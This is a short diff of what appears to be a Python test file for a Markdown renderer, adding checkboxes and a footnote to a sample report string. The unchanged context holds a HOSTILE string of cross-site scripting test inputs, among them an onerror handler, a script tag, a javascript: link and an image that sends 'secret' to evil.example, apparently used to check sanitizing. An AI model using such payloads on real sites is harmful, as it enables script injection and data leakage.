@@ -48,7 +48,12 @@ for region, (q1, q2) in sales.items():
    - no adjustment for inflation
    - `NaN` rows are dropped
 
-> The next report is due in October.
+- [x] checked by two people
+- [ ] signed
+
+> The next report is due in October.[^1]
+
+[^1]: Unless the holidays move it.
 '''
 HOSTILE = """Hi <img src=x onerror="window.hacked=1"> <script>window.hacked=2</script> [click](javascript:alert(1))
 ![pixel](https://evil.example/p.png?q=secret)
